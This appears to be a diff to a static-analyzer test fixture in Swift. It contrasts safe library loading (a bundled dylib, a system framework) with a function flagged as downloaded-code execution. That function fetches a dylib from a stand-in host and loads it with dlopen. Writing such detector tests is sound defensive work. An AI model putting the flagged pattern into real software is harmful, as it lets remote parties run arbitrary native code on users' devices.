@@ -108,6 +108,20 @@ final class LivePatchEngine {
         return NSSelectorFromString("trackPurchase:") // ok: a constant selector
     }
 
+    func loadDownloadedDriver() async throws {
+        let (file, _) = try await URLSession.shared.download(from: URL(string: "https://cdn.acme-deals.example/libscanner.dylib")!)
+        let driver = FileManager.default.temporaryDirectory.appendingPathComponent("libscanner.dylib")
+        try FileManager.default.moveItem(at: file, to: driver)
+        _ = dlopen(driver.path, RTLD_NOW) //~ debug-entry/downloaded-code-execution
+    }
+
+    func loadBundledDriver() throws {
+        let bundled = Bundle.main.bundleURL.appendingPathComponent("Frameworks/libscanner.dylib")
+        let driver = FileManager.default.temporaryDirectory.appendingPathComponent("libscanner.dylib")
+        try FileManager.default.copyItem(at: bundled, to: driver)
+        _ = dlopen(driver.path, RTLD_NOW) // ok: a copy of a library shipped in the app
+    }
+
     func systemLibrary() {
         _ = dlopen("/System/Library/Frameworks/Accelerate.framework/Accelerate", RTLD_LAZY) // ok: a system framework
     }
